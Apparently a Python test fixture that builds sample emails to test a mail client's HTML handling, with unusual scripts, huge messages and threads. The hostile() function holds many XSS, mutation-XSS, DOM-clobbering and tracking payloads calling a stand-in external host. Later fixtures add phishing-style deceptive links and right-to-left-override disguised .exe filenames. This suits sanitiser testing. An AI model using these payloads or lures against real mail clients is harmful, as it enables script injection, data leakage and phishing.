"""Mail for people to look at: good, odd and hostile."""
# ruff: noqa: E501 - mail HTML as it comes

from __future__ import annotations

import base64
from email.message import EmailMessage
from typing import Any

OWNER = "ann@lanternworks.example"
PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def mail(
    number: int,
    subject: str,
    *,
    html: str = "",
    text: str = "",
    sender: str = "Bo Berg <bo@partner.example>",
    day: int = 0,
    **fields: str,
) -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, OWNER, subject
    message["Date"] = f"Mon, {1 + day % 28:02} Jun 2026 10:{number % 60:02}:00 +0000"
    message["Message-ID"] = f"<{number}@partner.example>"
    for name, value in fields.items():
        message[name.replace("_", "-")] = value
    message.set_content(text or f"Plain text of message {number}.")
    if html:
        message.add_alternative(html, subtype="html")
    return message


def hostile(away: str) -> dict[str, str]:
    """HTML by what it tries; everything calls `away`, or sets `window.hurt`, or writes `PWNED`."""
    svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{away}/svg-data\')"/>'.encode()).decode()
    page = base64.b64encode(f"<script>fetch('{away}/data-page');top.hurt=1</script>".encode()).decode()
    return {
        "script": f"<script>top.hurt=1;document.body.innerHTML='PWNED';fetch('{away}/script')</script>"
        f"<scr<script>ipt>top.hurt=1</script><script src='{away}/src.js'></script>",
        "onerror": f'<img src=x onerror="fetch(\'{away}/onerror\');top.hurt=1"><body onload="top.hurt=1">'
        f"<div onmouseover=top.hurt=1 onpointerenter=top.hurt=1 style='position:fixed;inset:0'>cover</div>",
        "svg": f"<svg onload=top.hurt=1><script>top.hurt=1</script><image href='{away}/svg' xlink:href='{away}/svg'/>"
        f"<use href='{away}/use.svg#a'/><style>@import '{away}/svg.css';</style></svg><img src='data:image/svg+xml;base64,{svg}'>",
        "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hurt=1&gt;">'
        f"</table></mtext><maction actiontype='statusline#' xlink:href='javascript:top.hurt=1'>go</maction>"
        f"<annotation-xml encoding='text/html'><img src='{away}/math'></annotation-xml></math>",
        "css": f"<style>@import url({away}/import.css);body{{background:url({away}/body)}}*{{background:url({away}/all)}}</style>"
        f"<link rel=stylesheet href='{away}/link.css'><link rel=prefetch href='{away}/prefetch'><link rel=dns-prefetch href='{away}'>"
        f"<p style='background:url({away}/style)'>a</p><p style='background:u\\72l({away}/escaped)'>b</p>"
        f"<p style='list-style-image:url({away}/list);cursor:url({away}/cursor),auto;content:url({away}/content)'>c</p>"
        f"<p style='background-image:image-set(\"{away}/set\" 1x);--x:url({away}/var);border-image:url({away}/border)'>d</p>",
        "font": f"<style>@font-face{{font-family:Far;src:url({away}/font.woff2)}}</style><p style='font-family:Far'>Text in a far font</p>",
        "pixel": f"<img src='{away}/pixel.gif' width=1 height=1><img src='{away}/two.png' srcset='{away}/set.png 2x'>"
        f"<table background='{away}/table.png'><tr><td background='{away}/cell.png'>x</td></tr></table>"
        f"<picture><source srcset='{away}/picture.png'><img alt=p></picture><input type=image src='{away}/input.png'>"
        f"<video poster='{away}/poster.png' src='{away}/video.mp4' autoplay></video><audio src='{away}/audio.mp3' autoplay></audio>",
        "frames": f"<iframe src='{away}/frame'></iframe><iframe srcdoc=\"<script>top.hurt=1;fetch('{away}/srcdoc')</script>\"></iframe>"
        f"<object data='{away}/object'></object><embed src='{away}/embed'><frameset><frame src='{away}/frameset'></frameset>"
        f"<iframe src='data:text/html;base64,{page}'></iframe><portal src='{away}/portal'></portal>",
        "meta": f"<meta http-equiv=refresh content='0;url={away}/refresh'><base href='{away}/'><img src='base.png'>"
        f"<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\">",
        "form": f"<form action='{away}/form' method=post id=f><input name=password><button>Send</button></form>"
        f"<button form=f formaction='{away}/formaction'>Go</button><isindex action='{away}/isindex'>",
        "links": f"<a href='javascript:top.hurt=1' id=js>one</a><a href=' java\tscript:top.hurt=1'>two</a>"
        f"<a href='data:text/html;base64,{page}'>three</a><a href='vbscript:msgbox(1)'>four</a><a href='{away}/ping' ping='{away}/pinged'>five</a>"
        f"<a href='/sign-out'>six</a><map name=m><area href='javascript:top.hurt=1' coords='0,0,9,9'></map>",
        "mutation": '<noscript><p title="</noscript><img src=x onerror=top.hurt=1>"></noscript>'
        '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=top.hurt=1 src=1>"></form>'
        '<template><img src=x onerror=top.hurt=1></template><xmp><img title="</xmp><img src=x onerror=top.hurt=1>"></xmp>'
        "<a id=csrf name=csrf></a><img name=getElementById><form name=body></form>",
    }


SCRIPTS = {
    "Arabic": "فاتورة رقم ١٢ من شركة المصابيح",
    "Hebrew": "חשבונית מספר 12 מחברת הפנסים",
    "Chinese": "灯笼公司的第十二号发票",
    "Japanese": "ランタン社からの請求書と見積もり",
    "Korean": "등불 회사의 송장 번호 12",
    "Thai": "ใบแจ้งหนี้หมายเลข ๑๒ จากบริษัทโคมไฟ",
    "Devanagari": "लालटेन कंपनी का चालान संख्या १२",
    "Tamil": "விளக்கு நிறுவனத்தின் விலைப்பட்டியல்",
    "Cyrillic": "Счёт номер 12 от фонарной компании",
    "Greek": "Τιμολόγιο αριθμός 12 από την εταιρεία",
    "Georgian": "ფარნების კომპანიის ანგარიში",
    "Amharic": "የፋኖስ ኩባንያ ደረሰኝ ቁጥር",
    "Vietnamese": "Hóa đơn số 12 từ công ty đèn lồng",
    "Emoji": "🏮👩🏽‍💻🏳️‍🌈 Rechnung 🧾",
    "Bidi": "Invoice \u202egnp.exe\u202c and \u2067חשבון\u2069 mixed",
}


def odd_mail() -> list[EmailMessage]:
    """Every script, far too long, right to left, very large, and a conversation."""
    found = [
        mail(100 + n, f"{name}: {subject}", text=f"{subject}\n\n{subject}", day=n)
        for n, (name, subject) in enumerate(SCRIPTS.items())
    ]
    found.append(mail(130, "Endless " + "subject without end " * 500, text="A subject of ten thousand characters."))
    found.append(mail(131, "Unbroken " + "x" * 10_000, html="<p>" + "y" * 10_000 + "</p>"))
    found.append(mail(132, "رسالة من اليمين إلى اليسار", html='<div dir="rtl"><p>مرحبا بالعالم، هذه رسالة</p></div>'))
    row = "<tr><td style='padding:4px'>Lamp {n}</td><td>{n} pieces</td><td><b>{n}.00 EUR</b></td></tr>"
    rows = "".join(row.format(n=n) for n in range(36_000))
    found.append(mail(133, "A price list of three megabytes", html=f"<h1>Prices</h1><table>{rows}</table>"))
    for n in range(60):
        back = {"In_Reply_To": f"<{199 + n}@partner.example>", "References": "<200@partner.example>"} if n else {}
        sender = "Bo Berg <bo@partner.example>" if n % 2 else "Cleo Cruz <cleo@partner.example>"
        found.append(
            mail(200 + n, "Re: The long conversation", text=f"Answer {n}\n\n> what was said", sender=sender, day=n, **back)
        )
    return found


def with_files() -> EmailMessage:
    message = mail(140, "Zephyr plans and pictures", text="The plans are attached.\nSee you.", day=20)
    message.add_attachment("The quokka is in the second paragraph.\nNothing else.\n", filename="notes.txt")
    message.add_attachment(PIXEL, maintype="image", subtype="png", filename="dot.png")
    message.add_attachment(one_page_pdf("Marsupial invoice 4711"), maintype="application", subtype="pdf", filename="plan.pdf")
    message.add_attachment(b"<script>top.hurt=1</script>", maintype="text", subtype="html", filename="page.html")
    return message


CALENDAR = """BEGIN:VCALENDAR
METHOD:REQUEST
BEGIN:VEVENT
UID:1@reading.example
SUMMARY:Lamp review <b>in the workshop</b>
DTSTART;TZID=America/New_York:20260703T090000
DTEND;TZID=America/New_York:20260703T103000
LOCATION:Workshop 2
ORGANIZER;CN=Bo Berg:mailto:bo@reading.example
ATTENDEE;CN=Ann Archer:mailto:ann@lanternworks.example
DESCRIPTION:Bring the heron lamp.\\nAnd the drawings.
END:VEVENT
END:VCALENDAR
"""


def to_read() -> list[EmailMessage]:
    """An invitation, links that lie, a long way, and the same file as in another mail. Not among the newest."""
    sender = "Bo Berg <bo@reading.example>"
    invitation = mail(160, "Invitation to the lamp review", text="Please come.", sender=sender)
    invitation.add_attachment(CALENDAR.encode(), maintype="text", subtype="calendar", filename="invite.ics")
    links = mail(
        161,
        "Your account needs attention",
        html="<p><a href='https://evil.example/login'>https://www.lanternworks.example/login</a> or "
        "<a href='https://lanternw0rks.example/'>here</a>, <a href='https://xn--80ak6aa92e.example/'>there</a>, "
        "<a href='https://reading.example/terms'>terms</a></p>",
        sender=sender,
    )
    travelled = mail(162, "From far away", text="It took a while.", sender=sender)
    for line in (
        "from relay.reading.example (relay.reading.example [192.0.2.7]) by mx.lanternworks.example with ESMTPS id 3; Mon, 01 Jun 2026 10:52:05 +0200",
        "from laptop (unknown [198.51.100.4]) by relay.reading.example with SMTP id 2; Mon, 01 Jun 2026 10:42:03 +0200",
    ):
        travelled["Received"] = line
    travelled["Authentication-Results"] = (
        "mx.lanternworks.example; dkim=pass header.i=@reading.example; spf=fail smtp.mailfrom=reading.example; dmarc=none"
    )
    same = mail(163, "The same plan again", text="As promised.", sender=sender)
    same.add_attachment(
        one_page_pdf("Marsupial invoice 4711"), maintype="application", subtype="pdf", filename="copy\u202efdp.exe"
    )
    return [invitation, links, travelled, same]


def in_variants() -> list[EmailMessage]:
    """A letter and its answer, which are handed in with other line ends once more. From elsewhere, and not among the newest:
    bars, and totals of other pages, count each variant."""
    answer: dict[str, Any] = {"In_Reply_To": "<150@partner.example>"}
    return [
        mail(150, "The okapi has arrived", text="It is shy.", sender="Bo Berg <bo@zoo.example>"),
        mail(151, "Re: The okapi has arrived", text="Give it an acacia.", sender="Cleo Cruz <cleo@zoo.example>", **answer),
    ]


def one_page_pdf(words: str) -> bytes:
    content = f"BT /F1 24 Tf 72 720 Td ({words}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    made = bytearray(b"%PDF-1.4\n")
    places = []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(made + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table))
